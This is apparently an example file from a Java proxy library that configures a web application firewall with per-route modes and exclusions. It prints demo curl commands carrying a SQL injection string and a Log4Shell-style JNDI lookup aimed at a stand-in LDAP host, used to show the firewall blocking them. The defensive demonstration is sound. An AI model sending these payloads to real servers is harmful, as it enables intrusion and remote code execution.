package dev.proxy4j.examples;

import dev.proxy4j.server.ProxyServer;
import dev.proxy4j.waf.Waf;
import dev.proxy4j.waf.WafMode;
import org.eclipse.jetty.server.Server;

/**
 * Attack-pattern filtering: a blocking WAF on every route at paranoia 1; a CMS route whose editors
 * post HTML, where the XSS family is left out; a route that only logs while its rules are tuned
 * at paranoia 2; and an upload route without inspection. See docs/security.md#waf.
 */
public final class WafExample {

    private WafExample() {
    }

    static ProxyServer start(int port, String backend) {
        return ProxyServer.builder()
                .listen("127.0.0.1", port)
                .waf(Waf.builder().mode(WafMode.BLOCK).build())                  // every route: 403 at score 5
                .route(r -> r.pathPrefix("/cms").wafExclusions("xss").upstream(backend))
                .route(r -> r.pathPrefix("/beta")
                        .waf(Waf.builder().mode(WafMode.DETECT).paranoia(2).build())  // logs what it would block
                        .upstream(backend))
                .route(r -> r.pathPrefix("/upload").waf(false).upstream(backend))
                .route(r -> r.pathPrefix("/").upstream(backend))
                .build()
                .start();
    }

    public static void main(String[] args) throws Exception {
        int port = args.length > 0 ? Integer.parseInt(args[0]) : 8080;
        Server backend = Quickstart.demoBackend("app");
        ProxyServer proxy = start(port, Quickstart.uri(backend));
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            proxy.stop();
            Quickstart.stopQuietly(backend);
        }));
        String base = "http://127.0.0.1:" + proxy.port();
        System.out.println("proxy on port " + proxy.port() + "; an injection gets 403, O'Brien does not:");
        System.out.println("  curl -i '" + base + "/search?q=%27%20OR%20%271%27%3D%271'");
        System.out.println("  curl -i '" + base + "/search?q=O%27Brien'");
        System.out.println("  curl -i -H 'User-Agent: ${jndi:ldap://x/a}' " + base + "/");
    }
}
